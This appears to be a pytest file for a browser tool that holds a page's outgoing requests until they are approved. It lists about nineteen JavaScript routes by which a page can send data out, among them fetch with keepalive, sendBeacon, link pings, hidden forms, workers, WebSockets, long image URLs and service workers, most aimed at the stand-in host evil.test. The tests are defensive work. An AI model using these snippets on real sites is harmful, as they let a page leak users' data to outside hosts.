"""Every road out of the browser that a page has, tried by a page that does it as it loads: nothing arrives unasked."""

from __future__ import annotations

import pytest

from tests.desk.requests.conftest import Rig

pytestmark = [pytest.mark.desk, pytest.mark.asyncio(loop_scope="session")]

_FORM = (
    "const send = (target, to) => { const f = document.createElement('form'); f.method = 'POST'; f.action = to;"
    "f.target = target; f.innerHTML = '<input name=amount value=5>'; document.body.append(f); f.submit() };"
)
_POST = "{method: 'POST', mode: 'no-cors', body: 'a=1'}"

ROADS = {
    "a request to its own site": f"fetch('/out', {_POST})",
    "a request to another site": f"fetch('http://evil.test/out', {_POST})",
    "one that outlives the page": "fetch('http://evil.test/out', {method: 'POST', mode: 'no-cors', keepalive: true})",
    "a deletion": "fetch('/out', {method: 'DELETE'})",
    "a request of the older kind": "const x = new XMLHttpRequest(); x.open('PUT', '/out'); x.send('p')",
    "a beacon": "navigator.sendBeacon('http://evil.test/out', 'b=1')",
    "a link's ping": "const a = document.createElement('a'); a.href = '#x'; a.ping = 'http://evil.test/out';"
    "document.body.append(a); a.click()",
    "a form that a script submits": f"{_FORM} send('', '/out')",
    "a form to another site": f"{_FORM} send('', 'http://evil.test/out')",
    "a form into a frame": "document.body.insertAdjacentHTML('beforeend', '<iframe name=inner></iframe>');"
    f"{_FORM} send('inner', 'http://evil.test/out')",
    "a form into a frame without a page": "const i = document.createElement('iframe'); document.body.append(i);"
    f"i.contentWindow.fetch('http://evil.test/out', {_POST})",
    "a file": "const d = new FormData(); d.append('doc', new File(['hello'], 'plan.txt'));"
    "fetch('/out', {method: 'POST', body: d})",
    "bytes": "fetch('/out', {method: 'POST', body: new Blob(['z'.repeat(500)])})",
    "a worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('http://evil.test/out',"
    " {method: 'POST', mode: 'no-cors'})\"])))",
    "a socket": "new WebSocket('ws://evil.test/out')",
    "a socket of a worker": "new Worker(URL.createObjectURL(new Blob([\"new WebSocket('ws://evil.test/out')\"])))",
    "a socket of a new frame": "const i = document.createElement('iframe'); document.body.append(i);"
    "new i.contentWindow.WebSocket('ws://evil.test/out')",
    "an address that holds a lot": "new Image().src = 'http://far.example/out?' + 'q'.repeat(3000)",
    "a visit with a lot in its address": "location.href = 'http://far.example/out?' + 'q'.repeat(3000)",
}


@pytest.mark.parametrize("road", ROADS)
async def test_what_a_page_sends_as_it_loads_is_held(rig: Rig, road: str) -> None:
    await rig.show(f"<script>{ROADS[road]}</script>")
    held = await rig.holds()
    assert "/out" in held[0].address
    assert not rig.site.changes()
    assert not rig.site.got("/out")


async def test_what_is_refused_never_arrives_and_the_page_learns_of_it(rig: Rig) -> None:
    await rig.show(
        "<p id=p>waiting</p><script>fetch('/out', {method: 'POST'}).catch(() => p.textContent = 'refused')</script>"
    )
    held = await rig.holds()
    await rig.desk.settle_held((held[0].id,), send=False)
    await rig.says("refused")
    assert not rig.site.changes()


async def test_what_is_let_go_arrives_as_it_was(rig: Rig) -> None:
    await rig.show("<script>fetch('/out', {method: 'POST', body: 'a=1'})</script>")
    held = await rig.holds()
    report = await rig.desk.settle_held((held[0].id,), send=True)
    await rig.arrives("/out")
    assert rig.site.got("/out")[0].body == "a=1"
    assert report.sent == {"shop.test": 3}
    assert report.held == ()


async def test_a_server_that_sends_a_body_on_to_another_site_is_held_again(rig: Rig) -> None:
    rig.site.hops["/hop"] = "http://evil.test/out"
    await rig.show(f"<script>fetch('/hop', {_POST[:-1]}, mode: 'cors'}})</script>")
    first = await rig.holds()
    await rig.desk.settle_held((first[0].id,), send=True)
    second = await rig.holds()
    assert second[0].host == "evil.test"
    assert not rig.site.got("/out")


async def test_a_beacon_on_leaving_is_held(rig: Rig) -> None:
    await rig.show(
        "<a href='/next'>Next page</a>"
        "<script>addEventListener('pagehide', () => navigator.sendBeacon('http://evil.test/out', 'all'))</script>"
    )
    await rig.click("Next page")
    held = await rig.holds()
    assert (held[0].kind, held[0].host) == ("beacon", "evil.test")
    assert rig.site.got("/next")
    assert not rig.site.changes()


async def test_no_service_worker_is_registered(rig: Rig) -> None:
    rig.site.pages["/sw.js"] = "fetch('http://evil.test/out', {method: 'POST', mode: 'no-cors'})"
    await rig.show(
        "<p id=p>waiting</p><script>navigator.serviceWorker.register('/sw.js')"
        ".then(() => p.textContent = 'registered', () => p.textContent = 'none')</script>",
        host="localhost",
    )
    await rig.says("none")
    assert not rig.site.got("/sw.js")


async def test_a_form_in_a_new_tab_is_held_before_the_tab_sends_anything(rig: Rig) -> None:
    await rig.show("<form method=post action='http://evil.test/out' target=_blank><button>Look inside</button></form>")
    await rig.click("Look inside")
    held = await rig.holds()
    assert (held[0].method, held[0].kind) == ("POST", "navigation")
    assert not rig.site.changes()


async def test_a_page_has_no_shared_workers_whose_sockets_the_wall_would_not_see(rig: Rig) -> None:
    await rig.show("<p id=p></p><script>p.textContent = 'Workers: ' + typeof SharedWorker</script>", host="localhost")
    await rig.says("Workers: undefined")


async def test_a_request_for_later_is_held_when_later_comes(rig: Rig) -> None:
    later = "fetchLater('/out', {method: 'POST', body: 'a=1', activateAfter: 50})"
    await rig.show(f"<script>{later}</script>", host="localhost")
    await rig.holds()
    assert not rig.site.changes()


async def test_nothing_is_fetched_ahead_of_a_visit(rig: Rig) -> None:
    at_once = '"eagerness": "immediate"'
    rules = f'{{"prefetch": [{{"urls": ["/ahead"], {at_once}}}], "prerender": [{{"urls": ["/drawn"], {at_once}}}]}}'
    await rig.show(f"<script type=speculationrules>{rules}</script><script>fetch('/marker')</script>")
    await rig.arrives("/marker")
    await rig.show("<script>fetch('/second')</script>")
    await rig.arrives("/second")
    assert not rig.site.got("/ahead")
    assert not rig.site.got("/drawn")


async def test_a_host_that_was_allowed_a_socket_may_have_one(rig: Rig) -> None:
    await rig.show("<script>setInterval(() => new WebSocket('ws://cdn.test/live'), 100)</script>")
    held = await rig.holds()
    assert held[0].kind == "socket"
    assert not rig.site.got("/live")
    await rig.desk.settle_held((held[0].id,), send=True)
    await rig.arrives("/live")


async def test_a_held_request_keeps_no_act_waiting(rig: Rig) -> None:
    await rig.show("<button onclick=\"fetch('/out', {method: 'POST'})\">Go</button>")
    report = await rig.click("Go")
    assert report.settled
    assert report.held


async def test_a_closed_tab_takes_along_what_it_wanted_to_send(rig: Rig) -> None:
    await rig.show("<button onclick=\"window.open('/child')\">Extra window</button>")
    rig.site.pages["/child"] = (
        "<title>Child</title><script>fetch('/out', {method: 'POST'}); setTimeout(close, 300)</script>"
    )
    await rig.click("Extra window")
    await rig.arrives("/child")
    while await rig.desk.held():
        await rig.desk.look()
    assert not rig.site.changes()
